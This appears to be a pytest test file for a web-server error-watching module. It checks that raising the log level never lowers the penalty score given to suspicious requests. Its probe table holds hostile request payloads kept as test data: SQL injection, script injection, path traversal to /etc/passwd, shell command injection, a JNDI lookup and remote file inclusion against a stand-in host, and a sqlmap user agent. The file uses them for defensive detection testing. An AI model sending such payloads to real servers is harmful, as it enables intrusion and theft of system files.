"""More logging must not weaken detection: what a request costs at LogLevel warn it costs at core:info and more at the least."""
import pytest

PROBES = {
    "missing": ("GET", "/nothing-here"),
    "php": ("GET", "/admin/setup.php"),
    "wordpress": ("GET", "/wp-login.php"),
    "phpmyadmin": ("GET", "/phpmyadmin/index.php"),
    "secret file": ("GET", "/.env"),
    "repository": ("GET", "/.git/config"),
    "htaccess": ("GET", "/.htaccess"),
    "backup": ("GET", "/backup.sql.gz"),
    "web shell": ("GET", "/uploads/c99.php"),
    "cgi": ("GET", "/cgi-bin/test.cgi"),
    "server status": ("GET", "/server-status"),
    "denied": ("GET", "/denied/x"),
    "denied and injected": ("GET", "/denied/x?id=1%27%20union%20select%20password%20from%20users--"),
    "injection in the query": ("GET", "/nothing?id=1%27%20union%20select%20password%20from%20users--"),
    "injection on a page": ("GET", "/page.html?id=1%27%20union%20select%20password%20from%20users--"),
    "script in the query": ("GET", "/nothing?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "script in the path": ("GET", "/%3Cscript%3Ealert(1)%3C/script%3E"),
    "traversal in the query": ("GET", "/nothing?file=../../../../etc/passwd"),
    "traversal in the path": ("GET", "/a/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    "traversal, encoded twice": ("GET", "/a/%252e%252e/%252e%252e/etc/passwd"),
    "encoded slash": ("GET", "/a%2fb"),
    "NUL": ("GET", "/a%00b"),
    "bad escape": ("GET", "/a%zzb"),
    "command": ("GET", "/nothing?cmd=;cat%20/etc/passwd"),
    "template": ("GET", "/nothing?name={{7*7}}"),
    "jndi": ("GET", "/nothing?x=${jndi:ldap://x.example/a}"),
    "remote file": ("GET", "/nothing?page=http://x.example/shell.txt?"),
    "php wrapper": ("GET", "/nothing?page=php://filter/convert.base64-encode/resource=index"),
    "TRACE": ("TRACE", "/page.html"),
    "unknown method": ("FOO", "/page.html"),
    "PUT": ("PUT", "/shell.php"),
    "DELETE": ("DELETE", "/page.html"),
    "PROPFIND": ("PROPFIND", "/"),
    "router": ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"),
    "long name": ("GET", "/" + "a" * 300),
    "wrong password": ("GET", "/private/page.html"),
}
HEADERS = {"wrong password": {"Authorization": "Basic YWxpY2U6d3Jvbmc="}}
AGENTS = {"tool": {"User-Agent": "curl/8"},
          "scanner": {"User-Agent": "sqlmap/1.7"},
          "injected header": {"User-Agent": "curl/8", "X-Api-Version": "${jndi:ldap://x.example/a}"}}


class TestWarnAndInfo:
    @classmethod
    def configure(cls, config):
        config.known_entries = "."
        config.errwatch("""
            Include ${CONF}/rules/*.conf
            ErrWatchInspect all
            ErrWatchLimit any 60/7d
            <VirtualHost *>
              ServerName quiet.example
              LogLevel warn
              <Location /errwatch-status>
                SetHandler errwatch-status
                Require ip 127.0.0.1
              </Location>
            </VirtualHost>
            <VirtualHost *>
              ServerName chatty.example
              LogLevel warn core:info
            </VirtualHost>
            <VirtualHost *>
              ServerName debug.example
              LogLevel debug
            </VirtualHost>
        """, rules="")

    def cost(self, server, host, name, headers):
        """Of this probe by a client of its own."""
        client = server.client()
        method, path = PROBES[name]
        sent = {"Host": host, **headers, **HEADERS.get(name, {})}
        with client.connect() as connection:
            connection.request(method, path, sent)
            if not connection.get("/page.html", {"Host": host}).status:  # it comes when the response was judged
                client.get("/page.html", {"Host": host})
        return server.status.score(client.address, "any")

    @pytest.mark.parametrize("agent", AGENTS)
    def test_costs_no_less(self, server, agent):
        costs = {name: [self.cost(server, host, name, AGENTS[agent]) for host in ("quiet.example", "chatty.example", "debug.example")]
                 for name in PROBES}
        assert sum(1 for quiet, _, _ in costs.values() if quiet > 0) > len(PROBES) / 2, costs
        assert {name: cost for name, cost in costs.items() if min(cost[1:]) < cost[0] - 0.05} == {}
